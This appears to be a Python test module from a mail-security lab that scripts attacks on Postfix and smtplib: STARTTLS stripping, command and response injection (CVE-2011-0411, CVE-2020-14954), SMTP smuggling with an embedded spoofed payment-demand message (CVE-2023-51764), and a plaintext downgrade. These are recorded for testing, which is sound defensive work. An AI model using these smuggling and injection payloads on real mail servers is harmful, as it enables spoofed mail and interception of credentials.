"""What a mail session looks like that somebody tampers with."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.support.laboratory import wire
from tests.support.laboratory.clients import scripted, smtp
from tests.support.laboratory.clients.access import Access
from tests.support.laboratory.messages import compose
from tests.support.laboratory.people import RAVI, TOM
from tests.support.laboratory.scenarios.common import incoming, outgoing, to_server
from tests.support.laboratory.tape import scenario

if TYPE_CHECKING:
    from tests.support.laboratory.office import Office
    from tests.support.laboratory.tape import Tape


@scenario(
    "smtp-starttls-stripped",
    "Somebody between smtplib and Postfix overwrites the STARTTLS keyword; the client"
    " logs in without TLS",
    "python3",
    "postfix",
)
def stripped(office: Office, tape: Tape) -> None:
    access = to_server(office, tape, 587, person=RAVI)
    each = outgoing("stripped", RAVI, "In the clear after all")
    effect = wire.overwriting(b"250-STARTTLS", b"250-XXXXXXXX")
    traveller = office.wire.traveller
    with office.wire.effect(effect), tape.recording(traveller, interface="eth0"):
        tape.add(traveller.call(smtp.send, access, each))


@scenario(
    "smtp-starttls-injected",
    "A client's STARTTLS comes with another command in the same segment, which Postfix"
    " drops (CVE-2011-0411)",
    "postfix",
)
def injected(office: Office, tape: Tape) -> None:
    access = to_server(office, tape, 25, "starttls")
    each = incoming("injected", TOM, subject="With a stowaway")
    with tape.recording():
        tape.add(office.outside.call(scripted.send_with_stowaway, access, each))


@scenario(
    "smtp-starttls-response-injected",
    "Somebody between smtplib and Postfix inserts a reply behind that to STARTTLS,"
    " before TLS (CVE-2020-14954)",
    "python3",
    "postfix",
)
def response_injected(office: Office, tape: Tape) -> None:
    access = to_server(office, tape, 587, "starttls", RAVI)
    each = outgoing("answered", RAVI, "Answered before it was asked")
    effect = wire.inserting(
        b"220 2.0.0 Ready to start TLS\r\n",
        b"250-mail.example.com\r\n250 AUTH PLAIN\r\n",
    )
    traveller = office.wire.traveller
    with office.wire.effect(effect), tape.recording(traveller, interface="eth0"):
        tape.add(traveller.call(smtp.send, access, each))


@scenario(
    "smtp-smuggling",
    "A message holds a bare line feed, a dot and commands for a second message"
    " (CVE-2023-51764)",
    "postfix",
)
def smuggling(office: Office, tape: Tape) -> None:
    hidden = compose(
        "smuggled@mx.example.net",
        "Ines Marlow <ines@example.com>",
        [TOM.address],
        "Please pay at once",
    )
    each = incoming("carrier", TOM, subject="A harmless message")
    commands = (
        f"\n.\r\nMAIL FROM:<ines@example.com>\r\nRCPT TO:<{TOM.address}>\r\nDATA\r\n"
    )
    content = each.message.as_bytes().rstrip() + commands.encode() + hidden.as_bytes()
    access = to_server(office, tape, 25)
    with tape.recording():
        tape.add(office.outside.call(scripted.send_content, access, each, content))


@scenario(
    "smtp-starttls-abandoned",
    "Postfix relays a message in plaintext, right after its handshake with another one"
    " failed, as they have no cipher suite in common",
    "postfix",
)
def abandoned(office: Office, tape: Tape) -> None:
    each = incoming("abandoned", TOM, subject="Better without TLS than never")
    relay = office.relay_tls
    # the other one has a key of RSA; at the second attempt Postfix goes on without TLS
    relay.set(
        "smtp_tls_protocols=TLSv1.2",
        "tls_medium_cipherlist=ECDHE-ECDSA-AES128-GCM-SHA256",
        "minimal_backoff_time=1s",
        "queue_run_delay=1s",
        "smtp_address_preference=ipv4",
        "smtp_mx_address_limit=1",
    )
    with tape.recording():
        relay.machine.call(smtp.send, Access("127.0.0.1", 25), each)
        (facts,) = relay.wait_until_sent(str(each.message["Message-ID"]))
    # its log has the recipient once for each attempt
    nothing: dict[str, list[str]] = {
        "mail_from": [],
        "rcpt_to": [],
        "rcpt_refused": [],
        "messages": [],
    }
    sent = {"rcpt_to": facts["rcpt_refused"], "rcpt_refused": []}
    tape.add(*[facts | nothing | {"tls": "starttls"}] * 2)
    tape.add(facts | sent | {"messages": [each.facts()]})


@scenario(
    "smtp-http-request",
    "curl sends a request of HTTP to Postfix, which says so and ends the connection",
    "curl",
    "postfix",
)
def http_request(office: Office, tape: Tape) -> None:
    url = "http://mail.example.com:25/send"
    with tape.recording():
        office.desk.run("curl", "--http0.9", "--max-time", "10", url, check=False)
    tape.add({"protocol": "smtp", "port": 25, "tls": "none", "messages": []})
